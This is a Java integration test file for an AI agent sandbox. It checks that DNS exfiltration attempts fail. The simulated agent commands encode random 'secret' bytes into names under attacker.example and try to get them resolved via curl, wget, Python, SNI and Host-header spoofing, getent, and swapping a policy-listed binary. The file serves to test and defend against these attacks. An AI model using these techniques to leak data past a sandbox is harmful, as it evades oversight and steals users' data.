package dev.openshell.sandbox.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.openshell.sandbox.SandboxHost;
import dev.openshell.sandbox.supervisor.AgentShell;
import dev.openshell.sandbox.supervisor.SandboxFixture;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * DNS exfiltration: an agent that may not reach a name makes the sandbox look it up anyway, with
 * the data in the name ({@code <data>.attacker.example}), and the host's resolver carries it to the
 * attacker's name server. Every path a name reaches the proxy by is tried (CONNECT, absolute-form
 * HTTP, a captured connection's SNI and Host header, requests inside an allowed tunnel, the
 * sandbox DNS, a binary the policy does not list, another port, an audit-mode endpoint, a caller
 * whose identity fails, a reload that removes the endpoint); the resolver the sandbox uses counts
 * zero lookups of every such name. Each attack also checks that it reached the proxy (a logged
 * denial), so a zero is not just a request that never left.
 */
@SandboxHost
class DnsExfiltrationAttackIT {

    // exec_from_writable: the identity test below swaps a listed binary in the workdir
    private static final String POLICY = SandboxFixture.systemPolicy()
                    .replace("read_write: [/tmp]", "read_write: [/tmp]\n  exec_from_writable: true")
            + """
            network_policies:
              api:
                endpoints:
                  - {host: ro.test, port: HTTPS_PORT, protocol: rest, access: read-only, allowed_ips: [10.95.0.0/24]}
                  - {host: api.test, port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}
                  - {host: "**.curl-only.test", port: HTTPS_PORT, allowed_ips: [10.95.0.0/24]}
                  - host: "**.audited.test"
                    port: HTTPS_PORT
                    protocol: rest
                    enforcement: audit
                    access: read-only
                    allowed_ips: [10.95.0.0/24]
                binaries: [{path: /usr/bin/curl}]
            """;

    private static AttackSandbox attack;

    @BeforeAll
    static void start() throws Exception {
        attack = AttackSandbox.start(POLICY);
    }

    @AfterAll
    static void stop() throws Exception {
        if (attack != null) {
            attack.close();
        }
    }

    /** A name carrying fresh "data": {@code <hex>.<domain>}. */
    private static String exfil(String domain) {
        byte[] secret = new byte[8];
        ThreadLocalRandom.current().nextBytes(secret);
        return HexFormat.of().formatHex(secret) + "." + domain;
    }

    @Test
    void aDeniedNameSentToTheProxyIsNeverLookedUp() throws Exception {
        String connect = exfil("attacker.example");
        String absolute = exfil("attacker.example");
        String python = exfil("attacker.example");
        String wget = exfil("attacker.example");
        String mixedCase = exfil("attacker.example");
        String port = exfil("attacker.example");

        sh("curl -sS " + attack.https(connect, "/"));
        sh("curl -sS " + attack.http(absolute, "/"));
        sh("python3 -c \"import urllib.request; urllib.request.urlopen('" + attack.http(python, "/") + "')\"");
        sh("wget -q -O - " + attack.https(wget, "/"));
        sh("curl -sS " + attack.https(mixedCase.toUpperCase(java.util.Locale.ROOT) + ".", "/"));
        sh("curl -sS https://" + port + ":443/");

        for (String name : List.of(connect, absolute, python, wget, mixedCase, port)) {
            assertDeniedWithoutLookup(name);
        }

        // Inside a tunnel the proxy allowed, the request's own Host header or target names nothing
        // (a Host of another name is refused as such, without a lookup).
        String hostHeader = exfil("attacker.example");
        String absoluteTarget = exfil("attacker.example");
        AgentShell.Result header = sh("curl -sS -H 'Host: " + hostHeader + "' " + attack.https("ro.test", "/h"));
        AgentShell.Result target =
                sh("curl -sS --request-target http://" + absoluteTarget + "/x " + attack.https("ro.test", "/a"));
        assertThat(header.output()).contains("\"error\":\"host_mismatch\"");
        assertThat(target.output()).contains("origin-form");
        assertThat(attack.lookupsOf(hostHeader)).isZero();
        assertThat(attack.lookupsOf(absoluteTarget)).isZero();
    }

    @Test
    void aNameThePolicyAdmitsOnlyForAnotherCallerOrPortIsNotLookedUp() throws Exception {
        String python = exfil("curl-only.test");
        String wget = exfil("curl-only.test");
        String otherPort = exfil("curl-only.test");
        String audited = exfil("audited.test");
        String admitted = exfil("curl-only.test");

        sh("python3 -c \"import urllib.request; urllib.request.urlopen('" + attack.https(python, "/") + "')\"");
        sh("wget -q -O - " + attack.https(wget, "/"));
        sh("curl -sS " + attack.http(otherPort, "/"));
        // audit mode relaxes L7 rules only: the connection itself is still decided by binary and port
        sh("wget -q -O - " + attack.https(audited, "/"));
        // the control: the name is looked up once curl, on its port, could be admitted
        AgentShell.Result curl = sh("curl -sS " + attack.https(admitted, "/"));

        for (String name : List.of(python, wget, otherPort, audited)) {
            assertDeniedWithoutLookup(name);
        }
        assertThat(attack.lookupsOf(admitted)).as(curl.output()).isPositive();

        // A binary the policy lists, swapped for another one: its identity fails, nothing is looked up.
        String tool = attack.supervisor().workdir().resolve("tool").toString();
        reload(POLICY + """
                  tofu:
                    endpoints:
                      - {host: "**.tofu.test", port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}
                    binaries: [{path: TOOL}]
                """.replace("TOOL", tool));
        String first = exfil("tofu.test");
        String swapped = exfil("tofu.test");
        sh("cp /usr/bin/curl " + tool + " && " + tool + " -sS " + attack.http(first, "/"));
        AgentShell.Result denied = sh("cp /usr/bin/wget " + tool + " && " + tool + " -q -O - --content-on-error "
                + attack.http(swapped, "/"));
        assertThat(attack.lookupsOf(first)).isPositive();
        assertThat(denied.output()).contains("\"rule\":\"identity\"");
        assertDeniedWithoutLookup(swapped);
    }

    @Test
    void aCapturedConnectionIsNotLookedUpByItsServerNameOrHostHeader() throws Exception {
        String sni = exfil("attacker.example");
        String host = exfil("attacker.example");
        String wrongBinary = exfil("curl-only.test");
        String ip = attack.upstreamIp();

        sh("curl -sS --noproxy '*' --resolve " + sni + ":" + attack.httpsPort() + ":" + ip + " "
                + attack.https(sni, "/"));
        sh("curl -sS --noproxy '*' --resolve " + host + ":" + attack.httpPort() + ":" + ip + " "
                + attack.http(host, "/"));
        sh("python3 -c \"import socket, ssl; c = ssl.create_default_context(); c.check_hostname = False;"
                + " c.verify_mode = ssl.CERT_NONE; c.wrap_socket(socket.create_connection(('" + ip + "', "
                + attack.httpsPort() + ")), server_hostname='" + wrongBinary + "')\"");

        for (String name : List.of(sni, host, wrongBinary)) {
            assertDeniedWithoutLookup(name);
        }

        // Such programs resolve through the sandbox DNS first: it looks up only names the policy names.
        String getent = exfil("attacker.example");
        String gethostbyname = exfil("attacker.example");
        AgentShell.Result answer = sh("getent ahostsv4 " + getent + "; echo rc=$?");
        sh("python3 -c \"import socket; socket.gethostbyname('" + gethostbyname + "')\"");
        assertThat(answer.output()).contains("rc=2");
        assertThat(attack.lookupsOf(getent)).isZero();
        assertThat(attack.lookupsOf(gethostbyname)).isZero();
    }

    @Test
    void theSandboxDnsLooksUpANameOnlyForAProgramThePolicyLetsReachIt() throws Exception {
        String getent = exfil("curl-only.test");
        String python = exfil("curl-only.test");
        String viaShell = exfil("curl-only.test");
        String curl = exfil("curl-only.test");

        // **.curl-only.test is named by the policy, but only for curl
        AgentShell.Result answer = sh("getent ahostsv4 " + getent + "; echo rc=$?");
        sh("python3 -c \"import socket; socket.gethostbyname('" + python + "')\"");
        sh("sh -c 'getent hosts " + viaShell + "'");
        // curl resolves the name itself when it ignores the proxy: looked up (an unknown name)
        AgentShell.Result control = sh("curl -sS --noproxy '*' " + attack.https(curl, "/"));

        assertThat(answer.output()).contains("rc=2");
        assertThat(attack.lookupsOf(getent)).isZero();
        assertThat(attack.lookupsOf(python)).isZero();
        assertThat(attack.lookupsOf(viaShell)).isZero();
        assertThat(attack.lookupsOf(curl)).as(control.output()).isPositive();
    }

    @Test
    void aReloadThatRemovesAnEndpointStopsItsLookups() throws Exception {
        String withEndpoint = POLICY.replace(
                "- {host: api.test, port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}",
                "- {host: api.test, port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}\n"
                        + "      - {host: \"**.reload.test\", port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}");
        String before = exfil("reload.test");
        String after = exfil("reload.test");
        String afterDns = exfil("reload.test");

        reload(withEndpoint);
        sh("curl -sS " + attack.http(before, "/"));
        reload(POLICY);
        sh("curl -sS " + attack.http(after, "/"));
        sh("getent ahostsv4 " + afterDns);

        assertThat(attack.lookupsOf(before)).isPositive();
        assertDeniedWithoutLookup(after);
        assertThat(attack.lookupsOf(afterDns)).isZero();
    }

    private static AgentShell.Result sh(String script) throws Exception {
        return attack.sh(script);
    }

    private static void reload(String yaml) {
        var outcome = attack.supervisor().reload(attack.fill(yaml).getBytes(StandardCharsets.UTF_8), "test");
        assertThat(outcome.loaded()).as(outcome.toString()).isTrue();
    }

    /** The proxy saw {@code name} and denied it (logged), and nobody looked it up. */
    private static void assertDeniedWithoutLookup(String name) throws Exception {
        String logged = "\"host\":\"" + name + "\"";
        await("the decision about " + name)
                .atMost(Duration.ofSeconds(5))
                .until(() -> attack.decisions().contains(logged));
        assertThat(attack.decisions().lines().filter(line -> line.contains(logged)))
                .as("decisions about " + name)
                .isNotEmpty()
                .allMatch(line -> line.contains("\"verdict\":\"deny\""));
        assertThat(attack.lookupsOf(name)).as("lookups of " + name).isZero();
    }
}
